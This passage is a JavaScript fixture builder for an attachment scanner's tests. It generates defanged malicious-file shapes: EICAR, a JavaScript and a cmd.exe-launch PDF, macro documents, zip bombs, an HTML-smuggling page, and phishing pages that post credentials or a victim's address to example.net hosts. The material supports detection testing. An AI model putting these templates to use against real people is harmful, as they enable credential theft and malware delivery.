// Attachment payloads for the fixtures and the tests: every file here is built from code, nothing is
// copied from real malware. The EICAR test string and our own marker match the signatures in
// test-fixtures/clamav/lachan-test.ndb. Both strings are assembled from parts so that this source
// file itself is not detected by a virus scanner.
import { createCipheriv, createHash } from 'node:crypto';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const yazl = require('yazl');
const CFB = require('cfb');

/** The 68-byte EICAR anti-virus test file. */
export const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*', 'latin1');

/** Matched by our own signature Lachan.Test.Marker (harmless text). */
export const MARKER = 'LACHAN-TEST-MALWARE-' + 'MARKER-7f3a';

const MTIME = new Date('2024-01-15T08:00:00Z');

/** A zip of { name: Buffer } built with yazl (deflate unless `store`). */
export function makeZip(files, { store = false } = {}) {
  return new Promise((resolve, reject) => {
    const zip = new yazl.ZipFile();
    for (const [name, data] of Object.entries(files)) {
      zip.addBuffer(Buffer.isBuffer(data) ? data : Buffer.from(data), name, { mtime: MTIME, compress: !store });
    }
    const chunks = [];
    zip.outputStream.on('data', (c) => chunks.push(c));
    zip.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    zip.outputStream.on('error', reject);
    zip.end();
  });
}

// ---- traditional PKWARE (ZipCrypto) encryption, enough for a real encrypted entry ----
const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();
const crcByte = (crc, b) => (CRC_TABLE[(crc ^ b) & 0xff] ^ (crc >>> 8)) >>> 0;
function crc32(buf) {
  let c = 0xffffffff;
  for (const b of buf) c = crcByte(c, b);
  return (c ^ 0xffffffff) >>> 0;
}

function zipCrypto(password, plain, checkByte) {
  let k0 = 0x12345678, k1 = 0x23456789, k2 = 0x34567890;
  const update = (b) => {
    k0 = crcByte(k0, b);
    k1 = (Math.imul((k1 + (k0 & 0xff)) >>> 0, 134775813) + 1) >>> 0;
    k2 = crcByte(k2, k1 >>> 24);
  };
  for (const b of Buffer.from(password)) update(b);
  // 12-byte header: fixed filler (deterministic fixtures), last byte = high byte of the CRC.
  const header = Buffer.from([0x4c, 0x61, 0x43, 0x68, 0x61, 0x6e, 0x54, 0x65, 0x73, 0x74, 0x21, checkByte]);
  const input = Buffer.concat([header, plain]);
  const out = Buffer.alloc(input.length);
  for (let i = 0; i < input.length; i++) {
    const t = (k2 | 2) & 0xffff;
    const ks = ((t * (t ^ 1)) >>> 8) & 0xff;
    out[i] = input[i] ^ ks;
    update(input[i]);
  }
  return out;
}

/** A zip whose single entry is deflated and encrypted with ZipCrypto (what `zip -e -P` makes). */
export function makeEncryptedZip(name, data, password) {
  const crc = crc32(data);
  const deflated = deflateRawSync(data);
  const body = zipCrypto(password, deflated, crc >>> 24);
  const nameBuf = Buffer.from(name);
  const flags = 0x0001; // encrypted
  const dosTime = 0x4000, dosDate = 0x582f;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(flags, 6);
  local.writeUInt16LE(8, 8);
  local.writeUInt16LE(dosTime, 10);
  local.writeUInt16LE(dosDate, 12);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(body.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(nameBuf.length, 26);
  local.writeUInt16LE(0, 28);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(0x031e, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(flags, 8);
  central.writeUInt16LE(8, 10);
  central.writeUInt16LE(dosTime, 12);
  central.writeUInt16LE(dosDate, 14);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(body.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(nameBuf.length, 28);
  central.writeUInt32LE(0, 42); // local header offset
  const localPart = Buffer.concat([local, nameBuf, body]);
  const centralPart = Buffer.concat([central, nameBuf]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(centralPart.length, 12);
  end.writeUInt32LE(localPart.length, 16);
  return Buffer.concat([localPart, centralPart, end]);
}

/** A minimal (not runnable) PE: MZ header pointing at a PE signature. */
export function makePe() {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.', 0x40, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x014c, 0x84); // i386
  return b;
}

/** A small valid one-page PDF with a line of text. */
export function makePdf(text = 'Lá Chắn test document') {
  const stream = `BT /F1 18 Tf 72 720 Td (${text.normalize('NFD').replace(/[^\x20-\x7e]/g, '')}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets = [];
  objects.forEach((o, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/**
 * A PDF made of the given object bodies (strings or Buffers, numbered from 1; object 1 must be the
 * catalog), with a correct cross-reference table.
 */
export function pdfFromObjects(objects, trailerExtra = '') {
  const chunks = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let size = chunks[0].length;
  const offsets = [];
  objects.forEach((o, i) => {
    offsets.push(size);
    const b = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), Buffer.isBuffer(o) ? o : Buffer.from(o, 'latin1'), Buffer.from('\nendobj\n', 'latin1')]);
    chunks.push(b);
    size += b.length;
  });
  let tail = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) tail += `${String(off).padStart(10, '0')} 00000 n \n`;
  tail += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R${trailerExtra ? ` ${trailerExtra}` : ''} >>\nstartxref\n${size}\n%%EOF\n`;
  chunks.push(Buffer.from(tail, 'latin1'));
  return Buffer.concat(chunks);
}

/**
 * A clear PDF carrying `files` as embedded files: each a file specification (/F, /UF) in the
 * catalog's /EmbeddedFiles name tree and an /EF stream, deflated unless `raw`; `typed: false`
 * leaves /Type /EmbeddedFile out of the stream (only the /EF entry points at it).
 * @param {{ name: string, data: Buffer, raw?: boolean, typed?: boolean }[]} files
 */
export function pdfWithEmbedded(files) {
  const objects = [];
  const names = [];
  // 1 catalog, 2 pages, 3 page, then a file specification and its stream for each file
  files.forEach((f, i) => {
    const spec = 4 + 2 * i;
    names.push(`(${f.name}) ${spec} 0 R`);
    const body = f.raw ? f.data : deflateSync(f.data);
    const dict = `${f.typed === false ? '' : '/Type /EmbeddedFile '}${f.raw ? '' : '/Filter /FlateDecode '}/Length ${body.length}`;
    objects.push(`<< /Type /Filespec /F (${f.name}) /UF (${f.name}) /EF << /F ${spec + 1} 0 R >> >>`);
    objects.push(Buffer.concat([Buffer.from(`<< ${dict} >>\nstream\n`), body, Buffer.from('\nendstream')]));
  });
  return pdfFromObjects([
    `<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [${names.join(' ')}] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
    ...objects,
  ]);
}

const PDF_PAGE_OBJECTS = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [] >>',
];

/**
 * A PDF that runs JavaScript as soon as it is opened (/OpenAction → /S /JavaScript), the shape of
 * malicious PDFs. The script itself only shows an alert.
 */
export function makeJavaScriptPdf() {
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    ...PDF_PAGE_OBJECTS,
    "<< /Type /Action /S /JavaScript /JS (app.alert\\('Lac Chan test'\\);) >>",
  ]);
}

/** A one-page PDF whose only content is one big link (a /URI link annotation) to `url`. */
export function makeLinkPdf(url) {
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A << /S /URI /URI (${url.replace(/[\\()]/g, '\\$&')}) >> >>`,
  ]);
}

/**
 * A PDF with a link annotation whose /URI is not written in the annotation but in objects of its
 * own: the annotation's /A is a reference to an action object, whose /URI is a reference to a
 * string object (readers follow both).
 */
export function makeIndirectLinkPdf(url) {
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A 5 0 R >>',
    '<< /Type /Action /S /URI /URI 6 0 R >>',
    `<${Buffer.from(url, 'latin1').toString('hex')}>`,
  ]);
}

/** A PDF whose page-wide link runs an action object (/A 5 0 R) that launches a file named by reference. */
export function makeIndirectActionPdf(action = 'Launch', target = 'C:\\Windows\\System32\\cmd.exe') {
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A 5 0 R >>',
    `<< /Type /Action /S /${action} /F 6 0 R >>`,
    `<< /Type /Filespec /F 7 0 R >>`,
    `(${target.replace(/[\\()]/g, '\\$&')})`,
  ]);
}

// ---- encrypted PDFs (ISO 32000-2 §7.6.4, standard security handler) -------------------------

const PDF_PAD = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const md5 = (...b) => createHash('md5').update(Buffer.concat(b)).digest();

function rc4(key, data) {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i] + key[i % key.length]) & 0xff;
    [s[i], s[j]] = [s[j], s[i]];
  }
  const out = Buffer.alloc(data.length);
  for (let k = 0, i = 0, j = 0; k < data.length; k++) {
    i = (i + 1) & 0xff;
    j = (j + s[i]) & 0xff;
    [s[i], s[j]] = [s[j], s[i]];
    out[k] = data[k] ^ s[(s[i] + s[j]) & 0xff];
  }
  return out;
}

function rc4Rounds(key, data) {
  let x = rc4(key, data);
  for (let i = 1; i <= 19; i++) x = rc4(Buffer.from(key.map((b) => b ^ i)), x);
  return x;
}

function hash2B(password, salt, udata = Buffer.alloc(0)) {
  let k = createHash('sha256').update(Buffer.concat([password, salt, udata])).digest();
  let e = Buffer.alloc(0);
  for (let i = 0; i < 64 || e[e.length - 1] > i - 32; i++) {
    const k1 = Buffer.concat([password, k, udata]);
    const c = createCipheriv('aes-128-cbc', k.subarray(0, 16), k.subarray(16, 32)).setAutoPadding(false);
    e = Buffer.concat([c.update(Buffer.concat(Array(64).fill(k1))), c.final()]);
    const sum = e.subarray(0, 16).reduce((a, b) => a + b, 0);
    k = createHash(['sha256', 'sha384', 'sha512'][sum % 3]).update(e).digest();
  }
  return k.subarray(0, 32);
}

function aes(alg, key, iv, data, pad = true) {
  const c = createCipheriv(alg, key, iv).setAutoPadding(pad);
  return Buffer.concat([c.update(data), c.final()]);
}

/**
 * An encrypted PDF. `objects` as for pdfFromObjects (object 1 the catalog), each a string or a
 * function (str, stream) => body, where str(text) gives `text` as an encrypted hex string of that
 * object and stream(dict, data) that object's encrypted stream (dict without /Length). Revision 3
 * (RC4 128-bit), 4 (AES-128) or 6 (AES-256). With the default empty user password the PDF opens
 * without a password (printing or copying restricted by the owner password only): the common case.
 * Deterministic (fixed file id, salts and IVs), so fixtures rebuild byte for byte.
 */
export function makeEncryptedPdf(objects, { revision = 4, userPassword = '', ownerPassword = 'chu-so-huu', permissions = -3904 } = {}) {
  const id0 = md5(Buffer.from('Lá Chắn encrypted PDF fixture'));
  const upw = Buffer.from(userPassword, 'latin1');
  const opw = Buffer.from(ownerPassword, 'latin1');
  const padded = (pw) => Buffer.concat([pw.subarray(0, 32), PDF_PAD]).subarray(0, 32);
  const P = Buffer.alloc(4);
  P.writeInt32LE(permissions);
  let fileKey;
  let encDict;
  if (revision === 6) {
    fileKey = createHash('sha256').update('Lá Chắn file key').digest();
    const salt = (s) => createHash('sha256').update(s).digest().subarray(0, 8);
    const [uv, uk, ov, ok] = ['uv', 'uk', 'ov', 'ok'].map(salt);
    const U = Buffer.concat([hash2B(upw, uv), uv, uk]);
    const UE = aes('aes-256-cbc', hash2B(upw, uk), Buffer.alloc(16), fileKey, false);
    const O = Buffer.concat([hash2B(opw, ov, U), ov, ok]);
    const OE = aes('aes-256-cbc', hash2B(opw, ok, U), Buffer.alloc(16), fileKey, false);
    const perms = aes('aes-256-ecb', fileKey, null, Buffer.concat([P, Buffer.from([0xff, 0xff, 0xff, 0xff]), Buffer.from('Tadb'), Buffer.from('lach')]), false);
    encDict = `<< /Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF /StdCF /O <${O.toString('hex')}> /U <${U.toString('hex')}> /OE <${OE.toString('hex')}> /UE <${UE.toString('hex')}> /Perms <${perms.toString('hex')}> /P ${permissions} >>`;
  } else {
    const n = 16;
    let ownerKey = md5(padded(opw));
    for (let i = 0; i < 50; i++) ownerKey = md5(ownerKey);
    const O = rc4Rounds(ownerKey.subarray(0, n), padded(upw));
    let key = md5(padded(upw), O, P, id0);
    for (let i = 0; i < 50; i++) key = md5(key.subarray(0, n));
    fileKey = key.subarray(0, n);
    const U = Buffer.concat([rc4Rounds(fileKey, md5(PDF_PAD, id0)), Buffer.alloc(16)]);
    const filters = revision === 4 ? ' /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF /StdCF' : '';
    encDict = `<< /Filter /Standard /V ${revision === 4 ? 4 : 2} /R ${revision} /Length 128${filters} /O <${O.toString('hex')}> /U <${U.toString('hex')}> /P ${permissions} >>`;
  }
  const encrypt = (num, data) => {
    if (revision === 3) return rc4(md5(fileKey, Buffer.from([num & 0xff, (num >> 8) & 0xff, num >> 16, 0, 0])).subarray(0, 16), data);
    const key = revision === 6 ? fileKey : md5(fileKey, Buffer.from([num & 0xff, (num >> 8) & 0xff, num >> 16, 0, 0]), Buffer.from('sAlT'));
    const iv = md5(Buffer.from(`iv ${num} ${data.length}`));
    return Buffer.concat([iv, aes(revision === 6 ? 'aes-256-cbc' : 'aes-128-cbc', key, iv, data)]);
  };
  const bodies = objects.map((o, i) => {
    if (typeof o !== 'function') return o;
    const num = i + 1;
    const str = (text) => `<${encrypt(num, Buffer.from(text, 'latin1')).toString('hex')}>`;
    const stream = (dict, data) => {
      const enc = encrypt(num, Buffer.isBuffer(data) ? data : Buffer.from(data, 'latin1'));
      return Buffer.concat([Buffer.from(`${dict.replace(/>>\s*$/, '')} /Length ${enc.length} >>\nstream\n`, 'latin1'), enc, Buffer.from('\nendstream', 'latin1')]);
    };
    return o(str, stream);
  });
  const encNum = objects.length + 1;
  return pdfFromObjects([...bodies, encDict], `/Encrypt ${encNum} 0 R /ID [<${id0.toString('hex')}> <${id0.toString('hex')}>]`);
}

/**
 * A one-page encrypted PDF that opens without a password (printing allowed, changes and copying
 * restricted): text, and a link to `url` in an annotation and in a compressed object stream,
 * both encrypted.
 */
export function makePermissionsOnlyPdf(url = 'https://dichvucong.gov.vn/', opts = {}) {
  const offsets = '5 0 ';
  const annot = `<< /Type /Annot /Subtype /Link /Rect [0 0 612 400] /A << /S /URI /URI (${url}) >> >>\n`;
  const objStm = deflateSync(Buffer.from(offsets + annot, 'latin1'));
  return makeEncryptedPdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R 7 0 R] /Resources << /Font << /F1 8 0 R >> >> >>',
      (_, stream) => stream('<< >>', 'BT /F1 18 Tf 72 720 Td (Thong bao lich hop - ban chi doc) Tj ET'),
      'null', // object 5 lives in the object stream 6 (a real file's cross-reference table says so)
      (_, stream) => stream(`<< /Type /ObjStm /N 1 /First ${offsets.length} /Filter /FlateDecode >>`, objStm),
      (str) => `<< /Type /Annot /Subtype /Link /Rect [0 400 612 792] /A << /S /URI /URI ${str(url)} >> >>`,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ],
    opts,
  );
}

const W_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const REL_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const DOC_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument';

function documentXml(text) {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="${W_NS}"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;
}

/** A minimal Word document (.docx), or with `macros` a .docm carrying word/vbaProject.bin. */
export function makeWordDocument({ macros = false, text = 'Báo cáo tháng' } = {}) {
  const main = macros
    ? 'application/vnd.ms-word.document.macroEnabled.main+xml'
    : 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const types =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
    `<Default Extension="xml" ContentType="application/xml"/>` +
    (macros ? `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` : '') +
    `<Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${DOC_REL}" Target="word/document.xml"/></Relationships>`;
  const files = {
    '[Content_Types].xml': types,
    '_rels/.rels': rels,
    'word/document.xml': documentXml(text),
  };
  if (macros) {
    files['word/_rels/document.xml.rels'] =
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${REL_NS}"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`;
    files['word/vbaProject.bin'] = makeVbaStorage();
  }
  return makeZip(files);
}

function vbaStreams(container, prefix) {
  const add = (p, data) => CFB.utils.cfb_add(container, prefix + p, Buffer.from(data));
  add('PROJECT', 'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\nName="Project"\r\n');
  add('VBA/_VBA_PROJECT', Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]));
  add('VBA/dir', Buffer.from([0x01, 0x00, 0x00]));
  add('VBA/ThisDocument', "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  ' harmless test macro\r\nEnd Sub\r\n");
}

/** The vbaProject.bin an OOXML document carries (an OLE file with a VBA storage). */
export function makeVbaStorage() {
  const c = CFB.utils.cfb_new();
  vbaStreams(c, '/');
  return Buffer.from(CFB.write(c, { type: 'buffer' }));
}

/** A legacy Word (.doc) OLE file with a Macros/VBA storage. */
export function makeOleDocWithMacros() {
  const c = CFB.utils.cfb_new();
  CFB.utils.cfb_add(c, '/WordDocument', Buffer.alloc(1024, 0));
  CFB.utils.cfb_add(c, '/1Table', Buffer.alloc(512, 0));
  vbaStreams(c, '/Macros/');
  return Buffer.from(CFB.write(c, { type: 'buffer' }));
}

/** A legacy Word (.doc) OLE file without macros. */
export function makeOleDoc() {
  const c = CFB.utils.cfb_new();
  CFB.utils.cfb_add(c, '/WordDocument', Buffer.alloc(1024, 0));
  CFB.utils.cfb_add(c, '/1Table', Buffer.alloc(512, 0));
  return Buffer.from(CFB.write(c, { type: 'buffer' }));
}

/** An HTML "login page" that posts a password to an external host (example.net: reserved, never resolves to a real site). */
export function makeCredentialHtml() {
  return Buffer.from(`<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8"><title>Đăng nhập hộp thư</title></head>
<body>
<h1>Phiên đăng nhập đã hết hạn</h1>
<form method="post" action="https://login.example.net/collect">
  <label>Email <input type="email" name="u"></label>
  <label>Mật khẩu <input type="password" name="p"></label>
  <button type="submit">Đăng nhập</button>
</form>
</body></html>
`);
}

/**
 * HTML smuggling: a page that carries a zip (base64 in its script), decodes it with atob, builds a
 * Blob and has the browser save it (msSaveOrOpenBlob, or an <a download> clicked by script). The
 * zip holds only a text file.
 */
export async function makeSmugglingHtml() {
  const zip = await makeZip({ 'hoa-don-thang-10.txt': `Hóa đơn tháng 10 (tệp thử nghiệm, vô hại).\n${'Số liệu kèm theo. '.repeat(60)}\n` }, { store: true });
  const b64 = zip.toString('base64').replace(/.{1,76}/g, '$&\\n" +\n  "').replace(/\\n" \+\n {2}"$/, '');
  return Buffer.from(`<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8"><title>Hóa đơn điện tử</title></head>
<body>
<p>Đang tải hóa đơn, vui lòng chờ...</p>
<script>
  var data = "${b64}";
  var bin = atob(data.replace(/\\n/g, ""));
  var bytes = new Uint8Array(bin.length);
  for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);
  var file = new Blob([bytes], { type: "application/zip" });
  if (window.navigator.msSaveOrOpenBlob) {
    window.navigator.msSaveOrOpenBlob(file, "hoa-don-thang-10.zip");
  } else {
    var a = document.createElement("a");
    a.href = URL.createObjectURL(file);
    a.download = "hoa-don-thang-10.zip";
    document.body.appendChild(a);
    a.click();
  }
</script>
</body></html>
`);
}

/**
 * A redirecting page pre-filled for its victim: script sends the browser to a remote "sign-in"
 * page (example.net: reserved, never a real site) with the recipient's address in base64.
 */
export function makeRedirectHtml(recipient = 'nhan.vien@lachan.test') {
  const id = Buffer.from(recipient).toString('base64');
  return Buffer.from(`<html><head><meta charset="utf-8"><title>Tài liệu được chia sẻ</title></head>
<body onload="go()">
<p>Đang mở tài liệu...</p>
<script>
  var who = "${id}";
  function go() {
    window.location.href = "https://tai-lieu.example.net/owa/dang-nhap.php#" + who;
  }
</script>
</body></html>
`);
}

/**
 * An ordinary exported report: a table, a logo carried inline (data: PNG), CSS, and a small script
 * that sorts the table and prints the page. Nothing built, decoded or redirected.
 */
export function makeReportHtml() {
  const png = Buffer.alloc(3000, 0x89).toString('base64');
  const rows = Array.from({ length: 40 }, (_, i) => `<tr><td>${i + 1}</td><td>Xã ${String.fromCharCode(65 + (i % 26))}</td><td>${(i * 37) % 100}</td></tr>`).join('\n');
  return Buffer.from(`<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8"><title>Báo cáo tiến độ giải ngân quý III</title>
<style>
  body { font-family: Arial, sans-serif; } table { border-collapse: collapse; } td, th { border: 1px solid #999; padding: 2px 6px; }
  @font-face { font-family: "Logo"; src: url(data:font/woff2;base64,${Buffer.alloc(2000, 0x42).toString('base64')}); }
</style></head>
<body>
<img alt="logo" src="data:image/png;base64,${png}">
<h1>Báo cáo tiến độ giải ngân quý III</h1>
<button onclick="window.print()">In báo cáo</button>
<table id="bang"><thead><tr><th onclick="sortBy(0)">STT</th><th onclick="sortBy(1)">Đơn vị</th><th onclick="sortBy(2)">Tỷ lệ (%)</th></tr></thead>
<tbody>
${rows}
</tbody></table>
<p>Xuất từ hệ thống quản lý đầu tư công ngày ${'15/01/2024'}. Liên hệ: <a href="mailto:ke.toan@sender.example">ke.toan@sender.example</a></p>
<script>
  function sortBy(col) {
    var body = document.querySelector("#bang tbody");
    var rows = Array.prototype.slice.call(body.rows);
    rows.sort(function (a, b) { return a.cells[col].textContent.localeCompare(b.cells[col].textContent, "vi", { numeric: true }); });
    rows.forEach(function (r) { body.appendChild(r); });
  }
  document.title = document.title + " (" + new Date(2024, 0, 15).toLocaleDateString("vi-VN") + ")";
</script>
</body></html>
`);
}

/** A zip bomb in small: one entry of `size` zero bytes (ratio around 1000:1). */
export function makeZipBomb(size = 20 * 1024 * 1024) {
  return makeZip({ 'bao-cao.txt': Buffer.alloc(size, 0) });
}

/** Just a RAR 5 signature and a few bytes: enough for the true type, not a real archive. */
export function makeRarHeader() {
  return Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]), Buffer.alloc(56, 0)]);
}

/** A 7-Zip signature header and padding. */
export function make7zHeader() {
  return Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]), Buffer.alloc(56, 0)]);
}

// ---- gzip and tar, written here byte by byte so the fixtures are deterministic ----

const MTIME_SECONDS = Math.floor(MTIME.getTime() / 1000);

/**
 * A gzip file (RFC 1952) of `data`; with `name` the header carries it as FNAME (what `gzip` does,
 * and what an attacker sets to "hoa-don.pdf.exe").
 */
export function makeGzip(data, { name } = {}) {
  const buf = Buffer.isBuffer(data) ? data : Buffer.from(data);
  const header = Buffer.from([0x1f, 0x8b, 0x08, name ? 0x08 : 0x00, 0, 0, 0, 0, 0x02, 0x03]);
  header.writeUInt32LE(MTIME_SECONDS, 4);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc32(buf), 0);
  trailer.writeUInt32LE(buf.length >>> 0, 4);
  const parts = [header];
  if (name) parts.push(Buffer.from(name), Buffer.from([0]));
  parts.push(deflateRawSync(buf, { level: 9 }), trailer);
  return Buffer.concat(parts);
}

/** A gzip bomb in small: `size` zero bytes gzipped (ratio around 1000:1). */
export function makeGzipBomb(size = 20 * 1024 * 1024) {
  return makeGzip(Buffer.alloc(size, 0));
}

const TAR_TYPES = { file: '0', hardlink: '1', symlink: '2', char: '3', dir: '5', fifo: '6' };

function octal(n, width) {
  return n.toString(8).padStart(width - 1, '0') + '\0';
}

function tarHeader({ name, size = 0, type = '0', linkName = '', format = 'ustar', prefix = '' }) {
  const h = Buffer.alloc(512, 0);
  h.write(name, 0, 100, 'utf8');
  h.write(octal(type === '5' ? 0o755 : 0o644, 8), 100, 'latin1');
  h.write(octal(0, 8), 108, 'latin1');
  h.write(octal(0, 8), 116, 'latin1');
  h.write(octal(size, 12), 124, 'latin1');
  h.write(octal(MTIME_SECONDS, 12), 136, 'latin1');
  h.fill(0x20, 148, 156);
  h.write(type, 156, 'latin1');
  h.write(linkName, 157, 100, 'utf8');
  h.write(format === 'gnu' ? 'ustar  \0' : 'ustar\x0000', 257, 'latin1');
  h.write('lachan', 265, 'latin1');
  h.write('lachan', 297, 'latin1');
  if (format !== 'gnu') {
    h.write(octal(0, 8), 329, 'latin1');
    h.write(octal(0, 8), 337, 'latin1');
    h.write(prefix, 345, 155, 'utf8');
  }
  let sum = 0;
  for (const b of h) sum += b;
  h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
  return h;
}

function tarBlock(header, data) {
  const pad = (512 - (data.length % 512)) % 512;
  return Buffer.concat([header, data, Buffer.alloc(pad)]);
}

function paxRecord(key, value) {
  const body = ` ${key}=${value}\n`;
  let len = Buffer.byteLength(body) + 1;
  while (String(len).length + Buffer.byteLength(body) !== len) len += 1;
  return `${len}${body}`;
}

/**
 * A tar archive. `entries`: [{ name, data?, type?: 'file'|'dir'|'symlink'|'hardlink'|'char'|'fifo',
 * linkName? }] (or an object { name: data }). Names that do not fit the 100-byte field get a pax
 * `path` record (`format: 'pax'`, the default) or a GNU LongLink entry (`format: 'gnu'`); with
 * `format: 'ustar'` they are split into prefix and name. Ends with two zero blocks, padded to 10 KB
 * like GNU tar's output.
 */
export function makeTar(entries, { format = 'pax' } = {}) {
  const list = Array.isArray(entries) ? entries : Object.entries(entries).map(([name, data]) => ({ name, data }));
  const parts = [];
  for (const e of list) {
    const data = e.data === undefined ? Buffer.alloc(0) : Buffer.isBuffer(e.data) ? e.data : Buffer.from(e.data);
    const type = TAR_TYPES[e.type ?? 'file'];
    let name = e.name;
    let prefix = '';
    if (Buffer.byteLength(name) > 100) {
      if (format === 'gnu') {
        const long = Buffer.concat([Buffer.from(name), Buffer.from([0])]);
        parts.push(tarBlock(tarHeader({ name: '././@LongLink', size: long.length, type: 'L', format }), long));
        name = name.slice(0, 100);
      } else if (format === 'pax') {
        const pax = Buffer.from(paxRecord('path', name));
